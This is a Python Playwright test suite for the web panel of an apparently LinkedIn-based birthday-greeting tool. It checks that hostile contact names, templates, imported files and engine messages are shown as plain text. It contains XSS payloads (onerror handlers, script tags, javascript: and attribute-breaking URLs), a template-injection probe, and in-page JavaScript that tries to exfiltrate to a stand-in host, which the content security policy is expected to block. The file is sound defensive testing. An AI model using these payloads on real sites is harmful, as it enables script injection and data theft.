"""Whatever comes from LinkedIn, from files or from the engine is shown as text."""

import asyncio
from collections.abc import AsyncIterator
from datetime import timedelta
import json
from pathlib import Path

from playwright.async_api import Route, expect
import pytest
import pytest_asyncio

from engine.runs.house import NOW
from engine.web.visit import PHONE, Place, Visit, visiting
from linkedin_engine.contract.enums import Occasion, WishState
from linkedin_engine.storage.contacts import ContactRepository
from linkedin_engine.storage.database import Database
from linkedin_engine.storage.wishes import WishRepository

pytestmark = pytest.mark.asyncio(loop_scope="module")

PATIENCE = 20_000
expect.set_options(timeout=PATIENCE)
BAD = "<img src=x onerror=window.owned=1><b>{{7*7}}</b>"
TEMPLATE = "<img src=x onerror=window.owned=1>{{ name }}<script>owned=1</script>"
NAME = f"Eve {BAD}"
# Of what the page itself is made of there is nothing in these places.
FOREIGN = ", ".join(
    f"{place} {tag}"
    for place in ("main", ".notices", "dialog", "nav")
    for tag in ("img", "b", "i", "script", "iframe", "[onerror]", "a[href^=javascript]")
)


def _write(folder: Path) -> None:
    with Database.open(folder / "linkedin.db") as database:
        contacts, wishes = ContactRepository(database), WishRepository(database)
        for number, state in enumerate((WishState.DRAFTED, WishState.APPROVED)):
            eve = contacts.observe(
                member_id=f"ACoAA{number:034}",
                vanity=f"eve-{number}",
                profile_url="javascript:window.owned=1",
                name=f"{NAME} {number}",
                first_name=BAD,
                birthday=NOW.date(),
                now=NOW,
            )
            wishes.add(
                contact_id=eve.id,
                occasion=Occasion.BIRTHDAY,
                day=NOW.date() - timedelta(days=number),
                state=state,
                text=f"Text {BAD}",
                template_id=None,
                run_id=None,
                now=NOW,
            )
        contacts.observe(
            member_id=f"ACoAA{9:034}",
            vanity="mallory",
            profile_url='https://www.linkedin.com/in/"onclick="window.owned=1',
            name=f"Mallory {BAD}",
            first_name=None,
            birthday=NOW.date(),
            now=NOW,
        )


@pytest_asyncio.fixture(loop_scope="module")
async def visit(place: Place) -> AsyncIterator[Visit]:
    # Not today: an approved wish would be sent at once.
    await place.home.ask("PUT", "/api/v1/settings", {"days": ["sun"]})
    if not (await place.home.ask("GET", "/api/v1/wishes"))["wishes"]:
        await asyncio.to_thread(_write, place.home.data)
    async with visiting(place.browser, place.url, size=PHONE) as come:
        yield come
        assert await come.page.locator(FOREIGN).count() == 0
        assert await come.page.evaluate("window.owned") is None


async def test_names_and_texts_of_people(visit: Visit) -> None:
    page = visit.page
    await visit.go("today")
    await expect(page.get_by_text(f"Text {BAD}")).to_have_count(2)
    await expect(page.get_by_text(f"Mallory {BAD}").first).to_be_visible()
    assert await page.locator(FOREIGN).count() == 0
    await page.get_by_role("button", name="Block Eve").first.click()
    await expect(page.locator(".notice")).to_contain_text(BAD)
    await page.get_by_role("button", name="Undo").click()
    await visit.go("history")
    await expect(page.get_by_text(f"Text {BAD}")).to_have_count(2)
    await visit.go("people")
    await page.get_by_role("button", name=NAME).first.click()
    await page.get_by_role("button", name="Forget this person").click()
    await expect(page.get_by_role("dialog")).to_contain_text(BAD)
    assert await page.locator(FOREIGN).count() == 0
    await page.keyboard.press("Escape")
    await page.get_by_label("Own text for this person").fill("Dear {{ name }}, <b>!")
    await expect(page.locator("blockquote", has_text="Dear")).to_contain_text(BAD)


async def test_templates_and_files_of_them(
    place: Place, visit: Visit, tmp_path: Path
) -> None:
    page = visit.page
    await visit.go("messages")
    await page.get_by_role("button", name="Add").first.click()
    text = page.get_by_label("Message", exact=True)
    await text.fill(TEMPLATE)
    await expect(page.locator("blockquote")).to_contain_text("onerror=window.owned=1>")
    await text.fill("{{ '<b>'.__class__ }}")
    await expect(page.locator(".editor .error")).to_be_visible()
    good = {
        "id": "own.en.9",
        "language": "en",
        "occasion": "birthday",
        "late": False,
        "text": TEMPLATE,
    }
    for wrong in ({"id": BAD}, {"language": BAD}, {"text": BAD + "{{ x }}"}):
        await _import(visit, tmp_path, good | wrong)
        await expect(page.locator(".notice.bad").last).to_contain_text("of the file")
    await _import(visit, tmp_path, good)
    await expect(page.locator(".source", has_text="onerror")).to_be_visible()
    (tmp_path / "bad.json").write_text(f'{{"version": 1, "templates": "{BAD}"')
    await page.locator("input[type=file]").set_input_files(tmp_path / "bad.json")
    await expect(page.get_by_text("This is no export of messages.")).to_be_visible()
    await place.home.ask("PUT", "/api/v1/messages", {"templates": []})
    visit.expect("400")


async def _import(visit: Visit, folder: Path, template: dict[str, object]) -> None:
    file = folder / "messages.json"
    kept = template | {"enabled": True}
    file.write_text(json.dumps({"version": 1, "templates": [kept]}), "utf-8")
    await visit.page.locator("input[type=file]").set_input_files(file)
    dialog = visit.page.get_by_role("dialog")
    await dialog.get_by_role("button", name="Import").click()


async def test_what_the_engine_itself_says(place: Place, visit: Visit) -> None:
    page, bad = visit.page, BAD
    state = await place.home.state()
    run = {"run_id": bad, "bot": bad, "state": bad, "reason": bad, "message": bad}
    state["queued"] = [run]
    state["run"] = run | {"dry_run": False, "step": bad, "done": 1, "total": 2}
    state["last_run"] = run | {"requested_at": NOW.isoformat(), "sent": 0, "found": 0}
    state["session"] |= {"present": True, "source": bad}
    state["problems"] = [{"code": bad, "since": NOW.isoformat(), "count": None}]

    async def say_state(route: Route) -> None:
        await route.fulfill(json=state)

    async def say_lines(route: Route) -> None:
        line = {"level": bad, "event": bad, "room": bad, bad: bad, "timestamp": None}
        await route.fulfill(json={"lines": [{"number": 1, "line": line}]})

    async def refuse(route: Route) -> None:
        error = {"code": bad, "message": bad, "field": bad}
        await route.fulfill(status=400, json={"error": error})

    await page.route("**/api/v1/state", say_state)
    # The snapshot of the event stream would take its place.
    await page.route_web_socket("**/api/v1/events", lambda _: None)
    await page.route("**/panel/logs*", say_lines)
    await page.route("**/api/v1/system/backups", refuse)
    for name in ("today", "login", "system"):
        await visit.go(name)
        await expect(page.locator("main")).to_contain_text("onerror")
        assert await page.locator(FOREIGN).count() == 0, name
    visit.expect("400")


async def test_a_page_that_was_taken_over_could_still_tell_nobody(
    visit: Visit,
) -> None:
    await visit.go("today")
    refused = await visit.page.evaluate(
        """async () => {
            const found = [];
            addEventListener("securitypolicyviolation",
                (event) => found.push(event.effectiveDirective));
            const tries = [
                () => new WebSocket("ws://127.0.0.2:9/"),
                () => fetch("https://example.org/?stolen").catch(() => {}),
                () => { new Image().src = "https://example.org/stolen.png"; },
                () => document.body.append(Object.assign(
                    document.createElement("iframe"), { src: "https://example.org/" })),
                () => document.body.setAttribute("style", "color: red"),
            ];
            for (const attempt of tries) {
                try { await attempt(); } catch { /* refused at once */ }
            }
            await new Promise((done) => setTimeout(done, 500));
            return found;
        }"""
    )
    assert set(refused) == {"connect-src", "img-src", "frame-src", "style-src-attr"}
    visit.troubles.clear()
    # The picture was asked for and then refused; nothing left the browser.
    visit.requests[:] = [each for each in visit.requests if "stolen.png" not in each]
